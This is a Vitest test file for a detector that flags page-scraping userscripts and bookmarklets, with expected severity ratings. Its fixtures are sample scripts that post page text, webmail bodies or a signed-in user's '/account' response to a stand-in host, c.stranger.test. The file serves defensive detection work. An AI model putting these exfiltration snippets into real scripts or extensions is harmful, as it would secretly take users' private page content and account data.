import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { pageScraping } from "./page-scraping.ts";

describe("page-scraping", () => {
	test.each([
		[
			"text of every site",
			["medium 5"],
			userscript(["match *://*/*"], `fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`),
		],
		[
			"a word of the page in an address",
			["low 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent).then(r=>r.text()).then(alert)`,
			),
		],
		[
			"a word of the page in an address, for the sake of whoever gets it",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent)`,
			),
		],
		[
			"mail sent by itself to a server that the script names",
			["high 7"],
			userscript(
				["match https://webmail.example/*", "grant GM_xmlhttpRequest", "connect c.stranger.test"],
				`GM_xmlhttpRequest({url:"https://c.stranger.test/",data:document.querySelector(".body").innerText})`,
			),
		],
		[
			"a title looked up, in a body, at a server that the script names: look at it",
			["medium 7"],
			userscript(
				["match https://films.example/*", "grant GM_xmlhttpRequest", "connect c.stranger.test"],
				`GM_xmlhttpRequest({url:"https://c.stranger.test/",data:document.querySelector("h1").innerText,onload:r=>alert(r.responseText)})`,
			),
		],
		[
			"text of one site, by itself",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`,
			),
		],
		[
			"what the site answers to a signed-in visitor",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("/account").then(r=>r.text()).then(t=>fetch("https://c.stranger.test/",{method:"POST",body:t}))`,
			),
		],
		[
			"text a bookmarklet has looked at by a server: look at it",
			["medium 1"],
			`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerHTML}).then(r=>r.text()).then(alert)`,
		],
		[
			"text a bookmarklet sends for the sake of whoever gets it",
			["medium 1"],
			`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerHTML})`,
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(pageScraping, code)).toEqual(expected);
	});

	test.each([
		[
			"a marked word looked up in a new page",
			`window.open("https://dictionary.stranger.test/?q="+encodeURIComponent(getSelection().toString()))`,
		],
		[
			"headings copied into a list",
			userscript(
				["match https://shop.example/*"],
				`document.querySelectorAll("h2").forEach(h=>{const a=document.createElement("a");a.textContent=h.textContent;document.body.append(a)})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(pageScraping, code)).toEqual([]);
	});
});
